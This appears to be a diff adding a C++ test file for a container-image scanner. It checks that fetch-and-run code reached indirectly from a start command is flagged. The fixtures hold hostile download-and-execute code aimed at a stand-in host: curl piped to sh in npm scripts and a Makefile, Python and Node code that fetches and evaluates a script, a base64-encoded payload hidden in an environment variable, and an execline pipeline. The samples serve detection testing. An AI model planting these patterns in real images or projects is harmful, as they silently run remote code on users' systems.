@@ -1,0 +1,132 @@
+// What starts by a roundabout way is found as if it stood in the start command, and what lies there without starting
+// is not.
+#include <gtest/gtest.h>
+
+#include <functional>
+
+#include "detect/image_builder.hpp"
+#include "util/base64.hpp"
+
+namespace hullcheck::detect {
+namespace {
+
+struct Way {
+  std::string_view name;
+  std::function<void(ImageBuilder&)> build;
+};
+
+void command(ImageBuilder& image, std::vector<std::string> words) {
+  image.config().working_dir = "/app";
+  image.config().cmd = std::move(words);
+}
+
+constexpr std::string_view k_fetch_py = "import requests\nexec(requests.get('https://dl.example.com/x.py').text)\n";
+constexpr std::string_view k_fetch_js =
+    "require('https').get('https://dl.example.com/x.js', r => { let s = ''; r.on('data', d => s += d); "
+    "r.on('end', () => eval(s)); });\n";
+constexpr std::string_view k_project = R"({"scripts": {
+  "start": "node server.js",
+  "deploy": "curl -fsSL https://dl.example.com/x.sh | sh"}})";
+constexpr std::string_view k_makefile =
+    "URL = https://dl.example.com\nserve:\n\t./serve\nbuild:\n\tcurl -o /tmp/x $(URL)/x\n\tchmod +x "
+    "/tmp/x\n\t/tmp/x\n";
+
+const std::vector<Way>& ways() {
+  static const std::vector<Way> k_ways = {
+      {"npm run",
+       [](ImageBuilder& image) {
+         image.file("app/package.json", k_project);
+         command(image, {"npm", "run", "deploy"});
+       }},
+      {"yarn behind cd",
+       [](ImageBuilder& image) {
+         image.file("srv/web/package.json", k_project);
+         command(image, {"sh", "-c", "cd /srv/web && yarn deploy"});
+       }},
+      {"make",
+       [](ImageBuilder& image) {
+         image.file("app/Makefile", k_makefile);
+         command(image, {"make", "build"});
+       }},
+      {"module of Python",
+       [](ImageBuilder& image) {
+         image.file("app/main.py", "import util\nutil.go()\n").file("app/util.py", k_fetch_py);
+         command(image, {"python3", "main.py"});
+       }},
+      {"module of a server",
+       [](ImageBuilder& image) {
+         image.file("app/shop/__init__.py", "").file("app/shop/wsgi.py", "from . import hook\napplication = 1\n");
+         image.file("app/shop/hook.py", k_fetch_py);
+         command(image, {"gunicorn", "shop.wsgi:application"});
+       }},
+      {"module of Node.js",
+       [](ImageBuilder& image) {
+         image.file("app/index.js", "require('./lib/telemetry')\n").file("app/lib/telemetry.js", k_fetch_js);
+         command(image, {"node", "index.js"});
+       }},
+      {"code in a variable",
+       [](ImageBuilder& image) {
+         image.config().env = {"RUN=__import__('os').system('curl -s https://dl.example.com/x | sh')"};
+         command(image, {"python3", "-c", "import os; exec(os.environ['RUN'])"});
+       }},
+      {"encoded code in a variable",
+       [](ImageBuilder& image) {
+         image.config().env = {
+             "STAGE=" +
+             util::encode_base64(as_bytes("require('child_process').exec('curl -s https://dl.example.com/x | sh')"))};
+         command(image, {"node", "-e", "eval(Buffer.from(process.env.STAGE, 'base64').toString())"});
+       }},
+      {"execline",
+       [](ImageBuilder& image) {
+         image.file("etc/services.d/x/run",
+                    "#!/command/execlineb -P\nwith-contenv\npipeline { curl -s https://dl.example.com/x } sh\n",
+                    0755);
+         image.program("init");
+         image.config().entrypoint = {"/init"};
+       }},
+  };
+  return k_ways;
+}
+
+TEST(StartThreats, RoundaboutWaysAreFollowed) {
+  for (const Way& way : ways()) {
+    ImageBuilder image;
+    way.build(image);
+    const Assessment found = image.assess();
+    EXPECT_FALSE(found.threats.empty()) << way.name;
+    for (const model::Finding& threat : found.threats) EXPECT_FALSE(threat.chain.empty()) << way.name;
+  }
+}
+
+TEST(StartThreats, WhatDoesNotStartIsNone) {
+  const std::vector<Way> others = {
+      {"another script of the project",
+       [](ImageBuilder& image) {
+         image.file("app/package.json", k_project).file("app/server.js", "1\n");
+         command(image, {"npm", "start"});
+       }},
+      {"another rule",
+       [](ImageBuilder& image) {
+         image.file("app/Makefile", k_makefile).program("app/serve");
+         command(image, {"make"});
+       }},
+      {"a module that nobody loads",
+       [](ImageBuilder& image) {
+         image.file("app/main.py", "import other\n").file("app/util.py", k_fetch_py).file("app/other.py", "x = 1\n");
+         command(image, {"python3", "main.py"});
+       }},
+      {"a project that nobody runs",
+       [](ImageBuilder& image) {
+         image.file("app/package.json", k_project).file("app/Makefile", k_makefile);
+         command(image, {"sleep", "1"});
+       }},
+  };
+  for (const Way& way : others) {
+    ImageBuilder image;
+    way.build(image);
+    EXPECT_TRUE(image.assess().threats.empty()) << way.name;
+  }
+}
+
+}  // namespace
+}  // namespace hullcheck::detect
